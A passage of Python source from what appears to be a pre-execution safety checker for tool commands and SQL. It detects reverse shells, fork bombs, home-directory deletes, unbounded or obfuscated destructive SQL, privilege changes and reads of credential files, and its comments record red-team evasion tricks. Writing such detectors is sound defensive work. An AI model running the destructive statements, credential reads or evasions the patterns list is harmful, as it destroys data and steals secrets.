    ``__import__``) hides its uses, and then remote_shell_code's whole-text test stands.
    (python -c and here-documents keep remote_shell_code.)"""
    if not remote_shell_code(src):
        return False
    starts = [0] + [m.end() for m in _NEWLINE.finditer(src)]

    def line_of(pos: int) -> int:
        return bisect.bisect_right(starts, pos) - 1

    sockets = []
    for m in _CODE_SOCKET.finditer(src):
        t = m.group(0)
        if _SOCKET_ALIAS.match(t) or (t.startswith("import") and _ALIAS_AFTER.match(src, m.end())):
            return True
        if not t.startswith("import"):
            sockets.append(line_of(m.start()))
    if not sockets:
        return False
    for m in _CODE_SHELL.finditer(src):
        t = m.group(0)
        if _SHELL_NAME_ONLY.fullmatch(t) or _NEAR_SOCKET_ONLY.match(t):
            if any(abs(line_of(m.start()) - n) <= lines for n in sockets):
                return True
            continue
        if t.startswith("dup"):
            arg = _DUP_ARG.match(src, m.end())
            if arg is not None and (arg.group(1) in _STD_STREAMS or _opened_file(src, arg.group(1))):
                continue
        return True
    return False


def _opened_file(src: str, name: str) -> bool:
    """Is ``name`` bound to a file the code opens (X = open(...), os.open, with open() as X)?"""
    n = re.escape(name)
    return re.search(rf"(?:^|[^\w.]){n}\s*=\s*(?:(?:os|io|codecs)\s*\.\s*)?open\s*\(|\bopen\s*\([^\n]*\)\s+as\s+{n}\b",
                     src) is not None


_NEWLINE = re.compile(r"\n")
_ALIAS_AFTER = re.compile(r"\s+as\b")
_SOCKET_ALIAS = re.compile(r"from\b|__import__|require\b")
# a shell named in a string or a path: the only sign that is weak in a whole file
_SHELL_NAME_ONLY = re.compile(r"/bin/\w*sh|[\"'](?:ba|z|da|k)?sh(?:\s+-i)?[\"']|(?i:cmd(?:\.exe)?[\"']|powershell(?:\.exe)?[\"'])")
# (probe round 35, left35) the run-what-was-read signs added for Tcl, Julia, R, perl's qx,
# ruby's Open3, node's execSync(x.toString()), python's shell=True: in a whole file, as weak
# as a shell's name (a docstring's `$VAR`, an exec of a build's variable), counted near a socket
_NEAR_SOCKET_ONLY = re.compile(r"`|exec\b|eval\b|open\b|Cmd\b|pipe\b|system2?\s*\(\s*readLines|qx|Open3|"
                               r"execSync|check_output|run\b|call\b|Popen|getoutput|getstatusoutput|popen|subprocess")
_DUP_ARG = re.compile(r"\s*([A-Za-z_][\w.]*?)(?:\s*\.\s*fileno\s*\(\s*\))?\s*,")
_STD_STREAMS = frozenset({"sys.stdin", "sys.stdout", "sys.stderr", "sys.__stdin__", "sys.__stdout__",
                          "sys.__stderr__"})


def text_findings(text: str, *, shell_shaped: bool, data: bool = True, sql: bool = True) -> tuple[str, str] | None:
    """(code, reason) of the first destructive pattern in ``text``, or None. With
    ``data`` False the data patterns (SQL, the metadata address) are left out: the text
    is only read or searched (grep 'DROP TABLE', a migration's content)."""
    if not text:
        return None
    if not text.isascii():
        # fullwidth digits and ideographic dots are what URL parsers make ASCII of
        text = unicodedata.normalize("NFKC", text).translate(_DOTS)
    found = _SET.Match(text)
    if not found or 0 not in found:
        # RE2 gave up (should not happen at this size): try each pattern alone
        found = [0] + [i + 1 for i, rx in enumerate(_SINGLE) if rx.search(text)]
    hint = tree_hint = False
    for k in sorted(found):
        if k == 0:
            continue
        code, reason, kind, _ = TEXT_PATTERNS[k - 1]
        if code in ("sql_destructive", "db_destructive") and not sql:
            continue   # (a tool that runs no SQL: a search, a page, a file pushed)
        if code == "tree_delete_hint":
            tree_hint = shell_shaped
        elif kind == "hint":
            hint = hint or data
        elif (kind == DATA and data) or (kind != DATA and shell_shaped):
            return code, reason
    if shell_shaped and fork_bomb(text):
        return "fork_bomb", "fork bomb"
    if tree_hint and home_variable_deleted(text):
        return "rm_recursive_root", "recursive delete of / or home"
    if hint and metadata_address(text, hinted=True):
        return "metadata_address", "cloud metadata service address"
    if sql and data and "/*" in text and len(text) < 1_000_000:
        # a keyword split by a comment (DR/**/OP TABLE, as old MySQL joined it), or
        # kept in MySQL's executable comment (/*!DROP*/ TABLE)
        joined = _SQL_INLINE_COMMENT.sub(_inline_comment, text)
        if joined != text:
            hit = text_findings(joined, shell_shaped=False, data=True, sql=True)
            if hit and hit[0] in ("sql_destructive", "db_destructive", "sql_program"):
                return hit
    if sql and data and "'" in text and len(text) < 1_000_000 and _SQL_CONCAT_HINT.search(text) \
            and _SQL_RUNS_TEXT.search(text):
        # (probe round 31, mcp31) a keyword split across string literals joined at run time
        # (EXEC('DR' + 'OP TABLE users'), EXECUTE 'DR' || 'OP ...', CONCAT('DR', 'OP ...'))
        joined = _SQL_CONCAT_CALL.sub(_concat_call, _SQL_LITERAL_JOIN.sub("", text))
        if joined != text:
            hit = text_findings(joined, shell_shaped=False, data=True, sql=True)
            if hit and hit[0] in ("sql_destructive", "db_destructive", "sql_program"):
                return hit
    return None


_SQL_CONCAT_HINT = re.compile(r"(?i)'\s*(?:\+|\|\|)\s*n?'|\bconcat(?:_ws)?\s*\(")
# (only where something runs the text built: SELECT CONCAT('TRUNC', 'ATE t') is a string)
_SQL_RUNS_TEXT = re.compile(r"(?i)\b(?:exec(?:ute)?|prepare|sp_executesql|dblink_exec|do|begin|call|query_to_\w+)\b")
_SQL_LITERAL_JOIN = re.compile(r"(?i)'\s*(?:\+|\|\|)\s*n?'")
_SQL_CONCAT_CALL = re.compile(r"(?i)\bconcat\s*\(\s*n?'([^()]*)'\s*\)")


def _concat_call(m: re.Match[str]) -> str:
    return "'" + re.sub(r"(?i)'\s*,\s*n?'", "", m.group(1)) + "'"


# DELETE or UPDATE of every row: no WHERE (or one always true) before the statement ends
_SQL_HINT = re.compile(r"(?i)\b(?:delete|update|deletemany|updatemany|merge)\b|deleteMany|updateMany|remove\s*\(")
_SQL_COMMENT = re.compile(r"/\*.*?(?:\*/|$)|--[^\n]*|#[^\n]*", re.S)
_SQL_INLINE_COMMENT = re.compile(r"/\*.*?(?:\*/|$)", re.S)
_SQL_IDENT = r"(?:[\w$]+|\"[^\"]+\"|`[^`]+`|\[[^\]]+\])(?:\s*\.\s*(?:[\w$]+|\"[^\"]+\"|`[^`]+`|\[[^\]]+\]))*"
_SQL_UNBOUNDED = re.compile(
    # (EXPLAIN ANALYZE runs the statement it explains)
    rf"(?is)^\s*(?:with\b.*?\)\s*)?(?:explain\s+(?:\([^)]*\banaly[sz]e\b[^)]*\)|analy[sz]e(?:\s+verbose)?)\s+)?(?:"
    rf"delete\s+(?:from\s+)?(?:only\s+)?{_SQL_IDENT}\s*(?:(?:as\s+)?[\w$]+\s*)??"
    rf"(?:$|\b(?:where|using|returning|order|limit|from|join|inner|left|output)\b)"
    rf"|update\s+(?:only\s+)?{_SQL_IDENT}(?:\s+(?:as\s+)?[\w$]+)?\s+set\s+{_SQL_IDENT}\s*="
    rf")")
_SQL_WHERE_WORD = re.compile(r"(?i)[()]|\bwhere\b")
# one always-true term of a WHERE: TRUE, 1, 2=2, ''='' (literals are blanked first, so
# 'a'='a'), id=id, 1<>0, NOT FALSE, in parentheses or not
_SQL_TRUE_TERM = re.compile(r"(?i)^\(*\s*(?:true|1|''\s*=\s*''|(\d+)\s*=\s*\1|([\w$.\"`]+)\s*=\s*\2|1\s*<>\s*0|"
                            r"not\s+false|not\s+0)\s*\)*$")
# ...and every row but NULLs: a column LIKE '%' (a pattern of nothing but %)
_SQL_LIKE_ALL = re.compile(r"(?is)^[\w$.\"`]+\s+i?like\s+'%+'$")
# a term that names no column compares constants: always true, or the statement does
# nothing (WHERE 2>1, WHERE 1 IN (1), WHERE length('x') > 0, WHERE NULL IS NULL)
_SQL_FALSE_TERM = re.compile(r"(?i)^(?:false|0+|null|not\s+true|not\s+1|0\s*=\s*1|1\s*=\s*0)$")
_SQL_NAME = re.compile(r"[A-Za-z_][\w$]*(?:\s*\.\s*[A-Za-z_][\w$]*)*(\s*\()?|\"[^\"]*\"|`[^`]*`|\[[^\]]*\]")
_SQL_CONST_WORDS = frozenset({"not", "null", "is", "and", "or", "like", "ilike", "between", "in", "true", "false",
                              "select", "case", "when", "then", "else", "end", "escape", "unknown", "current_date",
                              "current_timestamp", "current_time", "localtimestamp", "any", "all", "some", "div", "mod",
                              "xor", "glob", "regexp", "rlike", "similar", "to", "distinct", "from_dummy"})
# a term every row (but few) meets, a person should see: the key against a bound every
# key meets (id > 0, id >= 0, id <> -1), not null, not in a list; an uncorrelated EXISTS
_SQL_KEYISH = r"(?:[\w$]+\s*\.\s*)?(?:id|[\w$]*_id|rowid|oid|pk|uuid|\"id\"|`id`)"
_SQL_WEAK_TERM = re.compile(
    rf"(?is)^(?:{_SQL_KEYISH}\s+is\s+not\s+null"
    rf"|{_SQL_KEYISH}\s*(?:>\s*(?:-\s*\d+|0+)|>=\s*(?:-\s*\d+|[01])|(?:<>|!=)\s*(?:-\s*\d+|0+|'')|<\s*\d{{7,}})"
    rf"|{_SQL_KEYISH}\s+not\s+in\s*\([^()]*\)"
    rf"|exists\s*\(\s*select\b(?:(?!\bwhere\b).)*\))$")
_SQL_WHERE_END = re.compile(r"(?is)\b(?:returning|order\s+by|limit|output)\b.*$")
# DELETE/UPDATE that starts inside a statement: a CTE's (WITH d AS (DELETE ...)), a
# prepared statement's (PREPARE p AS DELETE ...), a rule's (DO INSTEAD DELETE ...), a
# MERGE branch's, a subquery's or a trigger's body (BEGIN DELETE FROM u; END)
_SQL_NESTED_DML = re.compile(r"(?is)(?:\(|\bas\b|\bdo\b|\binstead\b|\balso\b|\bthen\b|\bbegin\b)\s*(?=(?:delete|update)\b)")
# a dollar-quoted body (a function's, a DO block's): its statements are read as the text's
_SQL_DOLLAR_BODY = re.compile(r"(?s)\$(\w*)\$(.*?)\$\1\$")
_SQL_MERGE = re.compile(r"(?is)^\s*merge\s+(?:top\s*\([^)]*\)\s*)?(?:into\s+)?.*?\busing\b(.*?)\bwhen\b(.*)$")
_SQL_MERGE_ALL = re.compile(r"(?is)(?:^\s*|\bwhen\s+)matched\s+then\s+(?:delete|update)\b")
_SQL_MERGE_DELETE = re.compile(r"(?is)\bthen\s+delete\b")
_MONGO_ALL = re.compile(r"\.(?:deleteMany|remove|updateMany)\s*\(\s*\{\s*\}", re.S)


REASON_UNBOUNDED_SQL = "destructive SQL (DELETE or UPDATE of every row: no WHERE)"


def unbounded_sql(text: str) -> bool:
    """A statement that deletes or updates every row of a table: DELETE FROM users,
    UPDATE users SET admin = true, with no WHERE or one that is always true, in any case,
    spacing or comments (DELETE/**/FROM users -- WHERE id = 1); MongoDB's deleteMany({})."""
    return sql_rows_level(text) == 2


def sql_rows_level(text: str) -> int:
    """How many rows a DELETE, UPDATE or MERGE of ``text`` may reach: 2 every row (no
    WHERE, or one always true), 1 what may be every row (WHERE id > 0, id IS NOT NULL,
    a MERGE that deletes what it matches), 0 a bounded set or no such statement."""
    if len(text) > 1_000_000 or not (_SQL_HINT.search(text) or (
            "/*" in text and _SQL_HINT.search(_SQL_INLINE_COMMENT.sub(_inline_comment, text)))):
        return 0
    if _MONGO_ALL.search(text):
        return 2
    level = 0
    for body in _sql_bodies(text):
        level = max(level, _body_level(body, 0))
        if level == 2:
            break
    return level


def _blank_literal(m: re.Match) -> str:
    return "'%'" if len(m.group(0)) > 2 and not m.group(0).strip("'%") else "''"


def _sql_bodies(text: str) -> list[str]:
    """The text as SQL reads it: literals blanked ('%' kept), comments as blanks; and,
    when it has /* */ comments, with them taken out (DEL/**/ETE, as old MySQL joined
    it) and MySQL's executable /*! ... */ comments' text kept."""
    lit = _SQL_LITERAL.sub(_blank_literal, text)
    out = [_SQL_COMMENT.sub(" ", lit)]
    if "/*" in lit:
        out.append(_SQL_COMMENT.sub(" ", _SQL_INLINE_COMMENT.sub(_inline_comment, lit)))
    return out


def _inline_comment(m: re.Match) -> str:
    c = m.group(0)
    if not c.startswith("/*!"):
        return ""
    c = c[3:-2] if c.endswith("*/") else c[3:]
    return " " + c.lstrip("0123456789") + " "


def _body_level(body: str, depth: int) -> int:
    level = 0
    if "$" in body and depth < 4:
        for m in _SQL_DOLLAR_BODY.finditer(body):
            level = max(level, _body_level(m.group(2), depth + 1))
        if level == 2:
            return 2
    for statement in body.split(";"):
        level = max(level, _statement_level(statement))
        if level == 2:
            return 2
        for m in _SQL_NESTED_DML.finditer(statement):
            level = max(level, _statement_level(_to_close(statement, m.end())))
            if level == 2:
                return 2
    return level


def _statement_level(statement: str) -> int:
    m = _SQL_UNBOUNDED.match(statement)
    if not m:
        return _merge_level(statement)
    where = _top_where(statement)
    if where is None:
        return 2
    t = _SQL_TARGET.match(statement)
    return _where_level(where, table=_ident_key(t.group(1)) if t else None)


def _top_where(statement: str) -> str | None:
    """What follows the statement's own WHERE (not a subquery's: UPDATE t SET a =
    (SELECT b FROM u WHERE ...) has none), or None."""
    depth = 0
    for m in _SQL_WHERE_WORD.finditer(statement):
        w = m.group(0)
        if w == "(":
            depth += 1
        elif w == ")":
            depth = max(depth - 1, 0)
        elif depth == 0:
            return statement[m.end():]
    return None


def _merge_level(statement: str) -> int:
    """MERGE INTO t USING s ON cond WHEN MATCHED THEN DELETE: every row when its ON is
    always true and a branch deletes or updates what matches unconditionally; what may
    be every row when a branch deletes at all (WHEN NOT MATCHED BY SOURCE THEN DELETE)."""
    m = _SQL_MERGE.match(statement)
    if m is None:
        return 0
    on = _split_top(m.group(1), "on")
    if len(on) > 1 and _SQL_MERGE_ALL.search(m.group(2)) and _where_level(on[-1]) == 2:
        return 2
    return 1 if _SQL_MERGE_DELETE.search(m.group(2)) else 0


def _to_close(text: str, start: int) -> str:
    """text[start:] up to the parenthesis that closes the one it is inside (a CTE's
    body), or to the end."""
    depth = 0
    for i in range(start, len(text)):
        c = text[i]
        if c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
            if depth < 0:
                return text[start:i]
    return text[start:]


def _split_top(cond: str, word: str) -> list[str]:
    """``cond`` split at ``word`` (or, and, on) outside parentheses."""
    depth, start, parts = 0, 0, []
    for m in re.finditer(rf"[()]|\b{word}\b", cond, re.I):
        if m.group(0) == "(":
            depth += 1
        elif m.group(0) == ")":
            depth -= 1
        elif depth == 0:
            parts.append(cond[start:m.start()])
            start = m.end()
    parts.append(cond[start:])
    return parts


def _unwrapped(t: str) -> str:
    """A term without the parentheses around all of it."""
    t = t.strip()
    while t.startswith("(") and t.endswith(")") and _to_close(t, 1) == t[1:-1]:
        t = t[1:-1].strip()
    return t


def _always_true(where: str) -> bool:
    """A WHERE condition true for every row (WHERE 1=1, WHERE id = id, WHERE x = 2 OR TRUE)."""
    return _where_level(where) == 2


def _where_level(where: str, depth: int = 0, table: str | None = None) -> int:
    """2: a WHERE condition true for every row: one of its top-level OR terms always true
    (WHERE 1=1, WHERE id = id, WHERE x = 2 OR TRUE, WHERE 2 > 1 AND 'a' = 'a'), or a
    term and its negation (x OR NOT x); 1: one true for what may be every row (WHERE id
    > 0); else 0. ``table``: the statement's own table (a subquery of it with no WHERE
    is every row: id IN (SELECT id FROM users))."""
    cond = _SQL_WHERE_END.sub("", where).strip() if depth == 0 else where
    level = 0
    terms = _split_top(cond, "or")
    for t in terms:
        level = max(level, _term_level(t, depth, table))
        if level == 2:
            return 2
    if len(terms) > 1:
        seen = {_norm_term(t) for t in terms}
        for t in seen:
            m = re.match(r"(?i)not\b\s*(.*)$", t, re.S)
            if m and _norm_term(m.group(1)) in seen:
                return 2   # (x OR NOT x: every row but NULLs, as x = x)
    return level


def _norm_term(t: str) -> str:
    return re.sub(r"\s+", " ", _unwrapped(t)).lower()


def _term_level(t: str, depth: int, table: str | None = None) -> int:
    t = _unwrapped(t)
    if depth > 8 or not t:
        return 0
    t = re.sub(r"(?i)^(?:not\s+not\b\s*)+", "", t)   # (NOT NOT TRUE)
    if len(_split_top(t, "or")) > 1:
        return _where_level(t, depth + 1, table)
    conj = _split_top(t, "and")
    if len(conj) > 1:
        return min(_term_level(c, depth + 1, table) for c in conj)
    if _SQL_TRUE_TERM.match(t) or _SQL_LIKE_ALL.match(t):
        return 2
    if _constant(t) and not _SQL_FALSE_TERM.match(t):
        return 2
    self_level = _self_comparison(t)
    if self_level:
        return self_level
    if table is not None:
        m = _SQL_SELF_SUBQUERY.match(t)
        if m and _ident_key(m.group(3)) == table:
            # id IN (SELECT id FROM users), deleting from users: every row with an id
            return 2 if _ident_key(m.group(1)) == _ident_key(m.group(2)) else 1
    return 1 if _SQL_WEAK_TERM.match(t) else 0


# a comparison of a column with itself through arithmetic that changes nothing (id = id
# + 0, id * 1 = id, lower(email) = lower(email)): every row (but NULLs), as id = id is.
# Both sides naming the same columns otherwise (id = id + 1, x >= x - 1): a person looks.
_SQL_COMPARE = re.compile(r"(?i)<=>|>=|<=|==|=|\bis\s+not\s+distinct\s+from\b")
_SQL_NOOP_ARITH = re.compile(r"\s*(?:[+-]\s*0+(?:\.0*)?|\*\s*1(?:\.0*)?|/\s*1(?:\.0*)?)(?![\w.])")
_SQL_NOOP_LEAD = re.compile(r"^\s*(?:0+\s*\+|1\s*\*)\s*")
_SQL_COLUMNS = re.compile(r"[A-Za-z_][\w$]*(?:\s*\.\s*[A-Za-z_][\w$]*)*(?!\s*\()|\"[^\"]+\"|`[^`]+`")


def _self_comparison(t: str) -> int:
    m = _SQL_COMPARE.search(t)
    if m is None:
        return 0
    left, right = t[:m.start()], t[m.end():]
    if left.rstrip().endswith(("!", "<", ">", "^", ":")) or left.count("(") != left.count(")"):
        return 0   # (x != x, x <> x: never true; an operator inside a call: not this term's)
    # (qualified names as written: a.id = b.id joins two tables)
    cols_l = {re.sub(r"\s+", "", c).strip('"`').lower() for c in _SQL_COLUMNS.findall(left)
              if c.lower() not in _SQL_CONST_WORDS}
    cols_r = {re.sub(r"\s+", "", c).strip('"`').lower() for c in _SQL_COLUMNS.findall(right)
              if c.lower() not in _SQL_CONST_WORDS}
    if not cols_l or cols_l != cols_r:
        return 0

    def canon(x: str) -> str:
        x = _SQL_NOOP_ARITH.sub("", _SQL_NOOP_LEAD.sub("", _unwrapped(x)))
        return re.sub(r"\s+", "", _unwrapped(x)).lower()
    return 2 if canon(left) == canon(right) else 1


_SQL_TARGET = re.compile(rf"(?is)^\s*(?:with\b.*?\)\s*)?(?:explain\s+\S+\s+)?(?:delete\s+(?:from\s+)?(?:only\s+)?|"
                         rf"update\s+(?:only\s+)?)({_SQL_IDENT})")
_SQL_SELF_SUBQUERY = re.compile(rf"(?is)^({_SQL_IDENT})\s+in\s*\(\s*select\s+(?:distinct\s+)?({_SQL_IDENT})\s+from\s+"
                                rf"({_SQL_IDENT})(?:\s+(?:as\s+)?[\w$]+)?\s*\)$")


def _ident_key(name: str) -> str:
    """A column's or a table's last name, unquoted, in lower case."""
    last = re.split(r"\s*\.\s*", name.strip())[-1]
    return last.strip('"`[]').lower()


def _constant(t: str) -> bool:
    """Does a term name no column (only literals, numbers, operators, functions)?"""
    for m in _SQL_NAME.finditer(t):
        if m.group(1):
            continue   # a function's name
        if m.group(0).lower() not in _SQL_CONST_WORDS:
            return False
    return True


# SQL a person should see before it runs (not a catastrophe: asked, as a risky command
# is): statements that read or write the database host's files or load code there
# (COPY ... TO/FROM 'file', INTO OUTFILE, LOAD DATA INFILE, pg_read_file, lo_import,
# load_extension, ATTACH/VACUUM INTO a file, Redis' CONFIG SET dir, OPENROWSET(BULK ...),
# a UDF's SONAME, psql's \! shell and \o | pipe), that change who may do what (GRANT,
# REVOKE, CREATE/ALTER/DROP USER or ROLE, ALTER SYSTEM), that build the statement they
# run from text no one sees (EXECUTE 'DR' || 'OP ...', EXEC(@sql), PREPARE s FROM @q,
# \gexec), that drop a column's or a partition's data, or another object (an index, a
# view, a function, a trigger)
_SQL_RISKY = (
    ("reads or writes the database host's files or loads code there",
     re.compile(r"(?is)\bcopy\b[^;]{0,1000}?\b(?:to|from)\s+(?:e?'|\$)|\binto\s+(?:out|dump)file\b|"
                r"\bload\s+(?:data|xml)\s+(?:low_priority\s+|concurrent\s+)?(?:local\s+)?infile\b|"
                r"\b(?:pg_read_(?:binary_)?file|pg_ls_dir|pg_stat_file|pg_file_write|lo_import|lo_export|load_file|"
                r"load_extension|readfile|writefile)\s*\(|\battach\s+(?:database\s+)?(?:'|\$|\w+\s*\|\|)|"
                r"\bvacuum\b[^;]{0,200}?\binto\b|\bconfig\s+set\s+(?:dir|dbfilename)\b|\bmodule\s+load\b|"
                r"\b(?:slaveof|replicaof)\s+(?!no\b)|\blanguage\s+'?(?:c|plpython3?u|plperlu|pltclu|plsh)\b'?|"
                r"\b(?:openrowset|opendatasource)\s*\(|\bbulk\s+insert\b|\bsoname\b|\bsp_(?:configure|addextendedproc)\b|"
                r"(?:^|[\n;])\s*\\(?:!|[og]\s*\|)|\bpragma\s+writable_schema\b|"
                # (probe round 32, mcp32) an untrusted language or an extension that reaches
                # the host (CREATE EXTENSION plpython3u, adminpack, file_fdw), Neo4j's APOC
                # file and URL loaders and exporters, Snowflake's unload to a stage and
                # BigQuery's EXPORT DATA (the data leaves for a place the statement names)
                r"\bcreate\s+(?:or\s+replace\s+)?(?:trusted\s+)?(?:procedural\s+)?language\b|"
                r"\bcreate\s+extension\s+(?:if\s+not\s+exists\s+)?[\"']?(?:pl\w*u|plsh|adminpack|file_fdw|"
                r"pg_execute_server_program|dblink|postgres_fdw|lo|untrusted\w*)\b|"
                r"\bapoc\s*\.\s*(?:load|import|export|cypher\s*\.\s*run\w*files?|systemdb)\s*\.|"
                r"\bcopy\s+into\s+(?:@|')|\bexport\s+data\b|"
                # ClickHouse's table functions that reach files, URLs, programs and other
                # servers (SELECT ... FROM file('/etc/passwd'), INSERT INTO FUNCTION url(...)),
                # DuckDB's extensions and whole-file reads, MySQL's log file moved (a web
                # shell's write), PostgreSQL's foreign servers
                r"\binsert\s+into\s+function\b|\b(?:from|join)\s+(?:file|url|executable|remote(?:secure)?|mysql|"
                r"postgresql|jdbc|odbc)\s*\(|(?:^|;)\s*(?:force\s+)?install\s+\w+|(?:^|;)\s*load\s+(?!data\b|xml\b)\w+\s*(?:;|$)|"
                r"\bread_(?:text|blob)\s*\(|\bset\s+(?:global\s+|@@global\s*\.\s*)?(?:general_log_file|slow_query_log_file)\b|"
                r"\bcreate\s+server\b[^;]{0,200}?\bforeign\s+data\s+wrapper\b")),
    ("changes database users or privileges",
     re.compile(r"(?is)\b(?:grant|revoke)\s+[\w\s,()]+?\b(?:on|to|from)\b|"
                r"\b(?:create|alter|drop)\s+(?:user|role|login)\b|\balter\s+system\b|\bsuperuser\b|"
                # (probe round 32, mcp32) an account's or a network policy's settings
                # (Snowflake's ALTER ACCOUNT SET NETWORK_POLICY, CREATE NETWORK RULE)
                r"\balter\s+account\b|\b(?:create|alter|drop)\s+(?:or\s+replace\s+)?network\s+(?:policy|rule)\b")),
    # (probe round 49, tools49) the server's own catalogs of its accounts' password hashes and
    # stored credentials (PostgreSQL's pg_shadow, pg_authid and user mappings' options, MySQL's
    # mysql.user, SQL Server's sql_logins, Oracle's user$, MongoDB's system.users): a
    # credential read, asked as cat of a key file is; an application's own tables stay data
    ("reads the database server's password hashes or stored credentials",
     re.compile(r"(?is)\b(?:pg_shadow|pg_authid|pg_user_mappings?|user_mapping_options|rolpassword|"
                r"authentication_string|sql_logins|syslogins|system\s*\.\s*users)\b|"
                r"\bmysql[`\"\]]?\s*\.\s*[`\"\[]?(?:user|global_priv)\b|\buser\$")),
    ("runs SQL built from text (dynamic SQL)",
     re.compile(r"(?is)\bexecute\s+(?:immediate\s+)?(?:e?'|\$|format\s*\(|concat\s*\(|[\w$]+\s*\|\||\()|"
                # (probe round 32, mcp32) Neo4j's APOC runs Cypher from its strings
                # (apoc.cypher.run, doIt, apoc.periodic.iterate / commit / submit / repeat)
                r"\bapoc\s*\.\s*(?:cypher\s*\.\s*(?:run\w*|do\w*)|periodic\s*\.\s*\w+|do\s*\.\s*\w+|"
                r"trigger\s*\.\s*(?:add|install))\s*\(|"
                r"\bexec(?:ute)?\s*\(\s*(?:@|n?'(?:[^']|'')*'\s*(?:\+|\|\|))|\bsp_executesql\b|\bprepare\s+[\w$]+\s+from\b|\\gexec\b|\bdblink_exec\s*\(")),
    ("drops a column and its data", re.compile(r"(?is)\balter\s+table\b[^;]{0,1000}?\b(?:drop\s+(?:column\b|(?!constraint|"
                                                r"index|key|primary|foreign|default|not\b|check\b|partition)[\w\"`]+\s*(?:[,;]|$))|"
                                                r"(?:drop|truncate)\s+partition\b)")),
    ("switches off a table's safeguards or acts as another role",
     re.compile(r"(?is)\balter\s+table\b[^;]{0,1000}?\b(?:disable\s+(?:trigger|row\s+level\s+security|rule)\b|"
                r"no\s+force\s+row\s+level\s+security\b)|(?:^|[;(]|\bbegin\b)\s*set\s+(?:session\s+|local\s+)?"
                r"(?:role|session\s+authorization)\b(?!\s*=)|\bsession_replication_role\b")),
    ("drops a database object", re.compile(r"(?is)(?:^|[;(]|\bthen\b|\bbegin\b)\s*drop\s+(?!constraint\b)\w+|"
                                           # (probe round 32, mcp32) one replaced with its data
                                           r"\bcreate\s+or\s+replace\s+(?:(?:transient|secure)\s+)?"
                                           r"(?:table|database|schema|stage|warehouse)\b")),
)
REASON_SQL_ROWS = "deletes or updates what may be every row (a WHERE every key meets, a MERGE that deletes)"


# (probe round 32, residuals33) the files a database engine's own functions read on the
# host: DuckDB's read_csv / read_json / read_parquet / read_text / read_blob and a quoted
# path after FROM, SQLite's readfile, ClickHouse's file(), MySQL's load_file, PostgreSQL's
# pg_read_file, COPY t FROM 'path': each path (or each of a list) is a file read
_SQL_FILE_FUNC = re.compile(
    r"(?i)\b(?:read_(?:csv(?:_auto)?|json(?:_auto|_objects(?:_auto)?)?|ndjson(?:_auto|_objects)?|parquet|text|blob|"
    r"xlsx)|parquet_scan|parquet_(?:metadata|schema|file_metadata|kv_metadata)|sniff_csv|readfile|load_file|"
    r"pg_read_(?:binary_)?file|pg_stat_file|file|glob|"
    # (probe round 32, redteam32c) DuckDB's other file readers: another database's file
    # (sqlite_scan('~/.config/google-chrome/Default/Login Data', 'logins')), a lake's table
    r"sqlite_(?:scan|attach)|delta_scan|iceberg_(?:scan|metadata|snapshots)|st_read)"
    r"\s*\(\s*(\[[^\]]{0,2000}\]|'(?:[^']|'')*')|\b(?:from|join)\s+('(?:[^']|'')*'|\"(?:[^\"]|\"\")*\")")
_SQL_LITERAL = re.compile(r"'((?:[^']|'')*)'")


def sql_file_paths(text: str) -> list[str]:
    """The host paths SQL TEXT reads through file functions (read_csv('~/.aws/credentials'),
    readfile('/home/dev/.ssh/id_rsa'), FROM '/etc/shadow'): literal paths only; a URL
    (http:, s3:) is no file."""
    if ("'" not in text and '"' not in text) or len(text) > 1_000_000:
        return []
    out: list[str] = []
    for m in _SQL_FILE_FUNC.finditer(text):
        found = m.group(1) or m.group(2)
        # (DuckDB reads a double-quoted table name that is no table as the file it names:
        # FROM "~/.aws/credentials")
        lits = [found[1:-1].replace('""', '"')] if found.startswith('"') else \
            [lit.replace("''", "'") for lit in _SQL_LITERAL.findall(found)]
        for v in lits:
            if v and not re.match(r"[a-zA-Z][\w+.-]*://", v) and len(v) < 4096:
                out.append(v)
    return out


def risky_sql(text: str) -> str | None:
    """What a database tool's SQL does that a person should see first, or None."""
    if len(text) > 1_000_000:
        return "is too long to read"
    for body in _sql_bodies(text):
        for reason, rx in _SQL_RISKY:
            if rx.search(body):
                return reason
    if sql_rows_level(text):
        return REASON_SQL_ROWS
    return None


# string literals are data unless something in the text may run one (EXECUTE 'DROP ...',
# dblink_exec, PREPARE s FROM '...', psql's \gexec, a function's body) or its quoting is
# not plain (a backslash escape, comments, dollar or double quotes read otherwise by
# another dialect)
_SQL_RUNS_LITERAL = re.compile(r"(?i)\b(?:exec\w*|prepare|sp_\w+|dblink\w*|query_to_\w+|eval|call|do|open\w+|format|"
                               r"concat|begin|function|procedure|trigger|rule)\b")
_SQL_ODD_QUOTING = re.compile(r"[\\$\"#`]|--|/\*")


def sql_data_literals_blanked(text: str) -> str | None:
    """``text`` with its SQL string literals blanked, when they can only be data (SELECT
    'DROP TABLE x', INSERT INTO log VALUES ('TRUNCATE t')); None when one may be run."""
    if len(text) > 100_000 or "'" not in text or _SQL_ODD_QUOTING.search(text) \
            or _SQL_RUNS_LITERAL.search(_SQL_LITERAL.sub("''", text)):
        return None
    blanked = _SQL_LITERAL.sub("''", text)
    return None if "'" in blanked.replace("''", "") else blanked



_HOME_ASSIGN = re.compile(rf"(?i)(?:\b(?:const|let|var|my|local|val|final|String|Path|File)\s+)?\$?([A-Za-z_]\w*)"
                          rf"(?:[ \t]*,[ \t]*\w+)?[ \t]*:?=[ \t]*(?:new[ \t]+File\([ \t]*)?"
                          rf"(?:{_HOME_EXPR}|os\.UserHomeDir\(\)|[\w.]+\.home\(\))")


def home_variable_deleted(text: str) -> bool:
    """A name given the home directory (or /) and then a tree-deleting call on it
    (home = os.path.expanduser('~'); shutil.rmtree(home); home, _ := os.UserHomeDir();
    os.RemoveAll(home)); at most 16 names are followed."""
    names = list(dict.fromkeys(m.group(1) for m in _HOME_ASSIGN.finditer(text[:200_000])))[:16]
    for name in names:
        if re.search(rf"(?i){_TREE_DELETE_CALL}[ \t]*\(?[ \t]*\$?{re.escape(name)}[ \t]*(?:[),;\n\"]|\\[n\"]|$)",
                     text):
            return True
    return False


_TREE_DELETE_UNKNOWN = re.compile(rf"(?i){_TREE_DELETE_CALL}[ \t]*\([ \t]*(?![ \t\\]*[\"'`])(?=\S)(?!\))")


def tree_delete_unknown(code: str) -> bool:
    """Code that deletes a tree whose path is no literal (shutil.rmtree(target),
    os.RemoveAll(dir)): / or the home directory cannot be ruled out."""
    return _TREE_DELETE_UNKNOWN.search(code) is not None


def _spawns_itself(text: str) -> bool:
    """$0|$0& (a script that starts itself twice). A short text is looked at with
    substring tests first (RE2's call costs microseconds); a long one by RE2 alone (its
